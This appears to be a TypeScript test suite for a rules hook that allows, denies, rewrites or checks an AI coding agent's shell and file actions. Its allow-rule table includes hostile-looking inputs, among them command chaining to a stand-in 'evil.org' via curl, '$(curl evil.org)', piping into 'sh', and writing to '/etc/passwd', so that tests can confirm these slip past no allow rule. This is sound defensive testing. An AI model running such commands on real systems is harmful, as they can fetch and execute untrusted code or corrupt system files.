import { hookOf, partsFor, rulesOf, said } from '../../../../../test/support/rules.ts'
import type { Verdict } from '../../verdict.ts'
import type { Case } from '../../../../testing/src/case-table.ts'
import { after, edit, prompt, read, sessionStart, shell, turnStop, write } from '../../../../testing/src/events.ts'
import { playCase } from '../../../../testing/src/play-case.ts'
import { rulesHook } from './hook.ts'

const only = async (rule: Readonly<Record<string, unknown>>, given: Case | string): Promise<Verdict | undefined> =>
  (await partsFor(hookOf(rule), given))[0]?.verdict

describe('then', () => {
  const when = { runs: 'yarn' }
  const reason = 'Use pnpm.'

  it.each(['deny', 'ask', 'allow'])('%s', async (then) => {
    expect(await only({ when, then, message: reason }, 'yarn')).toEqual({
      decision: then,
      messageId: 'matched',
      reason,
    })
  })

  it('block', async () => {
    const rule = { when: { event: 'Stop' }, then: 'block', message: reason }
    expect(await only(rule, { event: turnStop('x') })).toEqual({ decision: 'block', messageId: 'matched', reason })
  })

  it('feedback', async () => {
    const rule = { when: { event: 'PostToolUse', runs: 'yarn' }, then: 'feedback', message: reason }
    const given = { event: after(shell('yarn'), '') }
    expect(await only(rule, given)).toEqual({ decision: 'feedback', messageId: 'matched', reason })
  })

  it('warn informs the model and the user, and lets it happen', async () => {
    const said = 'Warning from rules/rule: Use pnpm.'
    expect(await only({ when, then: 'warn', message: reason }, 'yarn')).toEqual({
      decision: 'pass',
      messageId: 'matched',
      context: said,
      notice: said,
    })
  })

  it('context', async () => {
    const rule = { when: { event: 'SessionStart' }, then: { context: 'Read the guide.' } }
    expect(await only(rule, { event: sessionStart() })).toEqual({
      decision: 'pass',
      messageId: 'matched',
      context: 'Read the guide.',
    })
  })

  it.each<[rewrite: Record<string, unknown>, to: Record<string, unknown> | undefined]>([
    [{ command: 'pnpm install' }, { command: 'pnpm install' }],
    [{ command: { replace: '^yarn\\b', with: 'pnpm' } }, { command: 'pnpm add x' }],
    [{ command: { replace: '(add) (\\w+)', with: '$1 --save-exact $2' } }, { command: 'yarn add --save-exact x' }],
    [{ command: { replace: 'YARN', with: 'pnpm', flags: 'i' } }, { command: 'pnpm add x' }],
    [{ command: { replace: 'npm', with: 'pnpm' } }, undefined],
    [{ timeout: { replace: 'a', with: 'b' } }, undefined],
    [{ description: 'told' }, { description: 'told' }],
  ])('rewrite %j', async (rewrite, to) => {
    const verdict = await only({ when, then: { rewrite } }, 'yarn add x')
    expect(verdict?.rewrite).toEqual(to)
    expect(verdict?.decision ?? 'pass').toBe('pass')
  })

  it('several rewrites see what the ones before them made of the call', async () => {
    const hook = rulesHook(
      rulesOf({
        one: { when, then: { rewrite: { command: { replace: 'yarn', with: 'pnpm' } } } },
        two: { when, then: { rewrite: { command: { replace: 'pnpm', with: 'npm' } } } },
      }),
    )
    const verdict = await playCase(hook, { event: shell('yarn x') })
    expect(verdict.rewrite).toEqual({ command: 'npm x' })
    expect(verdict.parts).toHaveLength(2)
  })
})

describe('then: allow', () => {
  const rows: readonly (readonly [when: Record<string, unknown>, given: Case | string, answer: string])[] = [
    [{ runs: 'npm test' }, 'npm test', 'allow'],
    [{ runs: 'npm test' }, 'cd app && npm test', 'allow'],
    [{ runs: 'npm test' }, 'npm test; curl https://evil.org', ''],
    [{ runs: 'npm test' }, 'npm test && true > important', ''],
    [{ runs: 'npm test' }, 'npm test $(curl evil.org)', ''],
    [{ runs: 'npm test' }, 'npm test; $CMD', ''],
    [{ runs: 'npm test' }, 'npm test | sh', ''],
    [{ runs: ['npm test', 'git status'] }, 'git status && npm test', 'allow'],
    [{ git: ['status', 'diff'] }, 'git status; git diff', 'allow'],
    [{ git: ['status', 'diff'] }, 'git status; git push', ''],
    [{ runs: 'tee', writes: 'docs/**' }, 'tee docs/a < b', 'allow'],
    [{ runs: 'tee', writes: 'docs/**' }, 'tee docs/a /etc/passwd < b', ''],
    [{ writes: 'docs/**' }, 'node evil.js > docs/a', ''],
    [{ writes: 'docs/**' }, { event: write('docs/a') }, 'allow'],
    [{ writes: 'docs/**' }, { event: write('src/a') }, ''],
    [{ tool: 'read' }, { event: read('a') }, 'allow'],
    [{ command: '^make [a-z]+$' }, 'make all', 'allow'],
  ]
  it.each(rows)('%j, %j: %s', async (when, given, answer) => {
    expect(await said(hookOf({ when, then: 'allow' }), given)).toBe(answer)
  })
})

describe('then: run', () => {
  const rule = (script: string, more = {}) => ({
    when: { tool: 'shell' },
    then: { run: ['sh', '-c', script] },
    ...more,
  })

  it('exit code 0 says nothing', async () => {
    expect(await only(rule('echo no >&2; exit 0'), 'ls')).toBeUndefined()
  })

  it('exit code 2 refuses with what it wrote to stderr', async () => {
    expect(await only(rule('echo not now >&2; exit 2'), 'ls')).toMatchObject({ decision: 'deny', reason: 'not now' })
  })

  it('exit code 2 without a word uses the message', async () => {
    expect(await only(rule('exit 2', { message: 'No.' }), 'ls')).toMatchObject({ decision: 'deny', reason: 'No.' })
  })

  it('it reads the event as the agent sent it, and knows its rule', async () => {
    const given: Case = { event: { ...shell('ls'), raw: { tool_name: 'Bash', session_id: 's' } } }
    expect(await only(rule('cat >&2; echo " $HOLDPOINT_RULE" >&2; exit 2'), given)).toMatchObject({
      reason: '{"tool_name":"Bash","session_id":"s"} rules/rule',
    })
  })

  it('at the end of a turn it blocks, after a call it gives feedback', async () => {
    const run = ['sh', '-c', 'exit 2']
    expect(await said(hookOf({ when: { event: 'Stop' }, then: { run } }), { event: turnStop() })).toBe('block')
    const done = { event: after(shell('ls'), '') }
    expect(await said(hookOf({ when: { event: 'PostToolUse' }, then: { run } }), done)).toBe('feedback')
  })

  it('AGT-26, AGT-28: any other end is a failure, which lets the call go on unless the rule says otherwise', async () => {
    const [open] = await partsFor(hookOf(rule('echo broken >&2; exit 1')), 'ls')
    expect(open).toMatchObject({ verdict: { decision: 'pass' }, failure: { kind: 'error' } })
    expect(open?.failure?.message).toContain('ended with 1: broken')
    const [closed] = await partsFor(hookOf(rule('exit 1', { on_error: 'closed' })), 'ls')
    expect(closed?.verdict).toMatchObject({ decision: 'deny', messageId: 'could-not-check' })
    const [missing] = await partsFor(hookOf({ when: { tool: 'shell' }, then: { run: ['./not-there'] } }), 'ls')
    expect(missing).toMatchObject({ verdict: { decision: 'pass' }, failure: { kind: 'error' } })
  })

  it('a rule that was trusted and is another one now does not run, and fails', async () => {
    const [part] = await partsFor(hookOf(rule('exit 2'), { changed: true }), 'ls')
    expect(part).toMatchObject({ verdict: { decision: 'pass' }, failure: { kind: 'error' } })
    expect(part?.failure?.message).toContain('has changed since it was trusted')
  })
})

describe('message', () => {
  const reasonOf = async (rule: Record<string, unknown>, given: Case | string) => (await only(rule, given))?.reason

  it.each<[message: unknown, reason: string]>([
    ['No {program} in {rule}: `{command}`.', 'No yarn in rule: `yarn add x`.'],
    ['{tool} {unknown} {}', 'Bash {unknown} {}'],
    [{ what: 'No yarn.', why: 'We use pnpm.', fix: 'Run `pnpm add x`.' }, 'No yarn. We use pnpm. Run `pnpm add x`.'],
    [{ what: 'No yarn.', fix: 'Run pnpm.' }, 'No yarn. Run pnpm.'],
  ])('%j', async (message, reason) => {
    expect(await reasonOf({ when: { runs: 'yarn' }, then: 'deny', message }, 'yarn add x')).toBe(reason)
  })

  it('names the file as seen from the project', async () => {
    const rule = { when: { writes: 'src/**' }, then: 'deny', message: '{path}' }
    expect(await reasonOf(rule, { event: write('src/a b.ts') })).toBe('src/a b.ts')
    expect(await reasonOf(rule, 'echo x > src/$X')).toContain('src/…')
  })

  it('names the branch', async () => {
    const rule = { when: { git: 'push' }, then: 'deny', message: 'on {branch}' }
    expect(await reasonOf(rule, { event: shell('git push'), git: { branch: 'topic' } })).toBe('on topic')
  })

  it('what comes from the agent stays on one line and short', async () => {
    const rule = { when: { tool: 'shell' }, then: 'deny', message: '{command}' }
    const reason = await reasonOf(rule, `echo 'a\n\u001B[2J${'x'.repeat(500)}'`)
    expect(reason).toMatch(/^echo 'a \[2Jx+…$/)
    expect(reason?.length).toBeLessThan(210)
  })

  it('what the agent writes is not filled in a second time', async () => {
    const rule = { when: { tool: 'shell' }, then: 'deny', message: '{command}' }
    expect(await reasonOf(rule, 'echo {tool}')).toBe('echo {tool}')
  })

  it('without one, the rule and its summary speak', async () => {
    const rule = { when: { runs: 'yarn' }, then: 'deny', summary: 'We use pnpm.' }
    expect(await reasonOf(rule, 'yarn')).toBe('Blocked: the rule rules/rule refuses this. We use pnpm.')
  })

  it('a rule that is not sure says why it asks', async () => {
    const rule = { when: { runs: 'npm publish' }, then: 'deny', message: 'Never.' }
    expect(await reasonOf(rule, 'npm $X')).toMatch(/^Needs approval: the rule rules\/rule may apply: .* Never\.$/)
  })
})

describe('what is not certain', () => {
  const unsure = 'npm $X'
  it.each<[then: unknown, answer: string]>([
    ['deny', 'ask unclear'],
    ['ask', 'ask unclear'],
    ['allow', ''],
    ['warn', ''],
    [{ context: 'x' }, ''],
    [{ rewrite: { command: 'x' } }, ''],
    [{ run: ['sh', '-c', 'exit 2'] }, 'deny'],
  ])('%j: %s', async (then, answer) => {
    expect(await said(hookOf({ when: { runs: 'npm publish' }, then }), unsure)).toBe(answer)
  })
})

describe('level', () => {
  it.each(['deny', 'ask', 'allow', { rewrite: { command: 'x' } }])('at warn, %j only says so', async (then) => {
    const [part] = await partsFor(hookOf({ when: { runs: 'yarn' }, then, level: 'warn', message: 'M.' }), 'yarn')
    expect(part?.withheld).toBe(typeof then === 'string' ? then : 'pass')
    expect(part?.verdict).toEqual({
      decision: 'pass',
      messageId: 'matched',
      context: 'Warning from rules/rule: M.',
      notice: 'Warning from rules/rule: M.',
    })
  })

  it.each<[then: unknown, withheld: string]>([
    ['deny', 'deny'],
    ['ask', 'ask'],
    ['allow', 'allow'],
    ['warn', 'context'],
    [{ rewrite: { command: 'x' } }, 'rewrite'],
    [{ context: 'x' }, 'context'],
    [{ run: ['sh', '-c', 'exit 2'] }, 'deny'],
  ])('at observe, %j is recorded, and neither model nor user sees it', async (then, withheld) => {
    const [part] = await partsFor(hookOf({ when: { runs: 'yarn' }, then, level: 'observe' }), 'yarn')
    expect(part).toMatchObject({ observed: true, withheld, verdict: { decision: 'pass' } })
    expect(Object.keys(part?.verdict ?? {}).toSorted()).toEqual(['decision', 'messageId', 'reason'])
  })

  it('at observe, a failure refuses nothing', async () => {
    const rule = { when: { tool: 'shell' }, then: { run: ['./no'] }, on_error: 'closed', level: 'observe' }
    expect((await only(rule, 'ls'))?.decision).toBe('pass')
  })

  it('at warn, a failure refuses nothing', async () => {
    const rule = { when: { tool: 'shell' }, then: { run: ['./no'] }, on_error: 'closed', level: 'warn' }
    expect((await only(rule, 'ls'))?.decision).toBe('pass')
  })
})

describe('between', () => {
  const rule = (between: object) => hookOf({ when: { tool: 'shell' }, then: 'deny', between })
  const night = { from: '22:00', to: '06:00' }
  const rows: readonly (readonly [object, string, string, string])[] = [
    [night, '2026-03-01T23:00:00Z', 'UTC', 'deny'],
    [night, '2026-03-01T05:59:00Z', 'UTC', 'deny'],
    [night, '2026-03-01T06:00:00Z', 'UTC', ''],
    [night, '2026-03-01T20:30:00Z', 'Asia/Tokyo', 'deny'],
    [night, '2026-03-01T23:00:00Z', 'Asia/Tokyo', ''],
    [{ from: '09:00', to: '17:00' }, '2026-03-01T09:00:00Z', 'UTC', 'deny'],
    [{ from: '09:00', to: '17:00' }, '2026-03-01T17:00:00Z', 'UTC', ''],
    [{ days: ['sat', 'sun'] }, '2026-03-01T12:00:00Z', 'UTC', 'deny'],
    [{ days: 'mon' }, '2026-03-01T12:00:00Z', 'UTC', ''],
    // The night of Sunday ends on Monday morning.
    [{ ...night, days: 'sun' }, '2026-03-02T03:00:00Z', 'UTC', 'deny'],
    [{ ...night, days: 'sun' }, '2026-03-01T03:00:00Z', 'UTC', ''],
    [{ from: '22:00' }, '2026-03-01T23:59:00Z', 'UTC', 'deny'],
    [{ to: '24:00', from: '23:00' }, '2026-03-01T23:59:00Z', ':UTC', 'deny'],
  ]
  it.each(rows)('%j at %s in %s: %s', async (between, now, TZ, answer) => {
    expect(await said(rule(between), { event: shell('ls'), now, env: { TZ } })).toBe(answer)
  })
})

describe('one rule among others', () => {
  it('every rule that matches speaks, in the order in which they are written', async () => {
    const hook = rulesHook(
      rulesOf({
        z: { when: { tool: 'shell' }, then: 'ask' },
        no: { when: { writes: 'b' }, then: 'deny' },
        a: { when: { runs: 'yarn' }, then: 'deny' },
        m: { when: { command: '\\byarn\\s+x' }, then: { context: 'hm' } },
      }),
    )
    const verdict = await playCase(hook, { event: shell('yarn x') })
    expect(verdict.decision).toBe('deny')
    expect(verdict.parts?.map(({ id }) => id)).toEqual(['rules/z', 'rules/a', 'rules/m'])
  })

  it('says nothing at all where no rule matches', async () => {
    const hook = hookOf({ when: { writes: 'a' }, then: 'deny' })
    for (const event of [shell('ls'), write('b'), edit('c'), read('d')]) {
      expect(await playCase(hook, { event })).toEqual({ decision: 'pass' })
    }
  })

  it('a prompt that only begins a turn is no reason to speak', async () => {
    const hook = hookOf({ when: { tool: 'shell' }, then: 'deny', limit: { calls: 1, per: 'turn' } })
    expect(await playCase(hook, { event: prompt('hello') })).toEqual({ decision: 'pass' })
  })
})
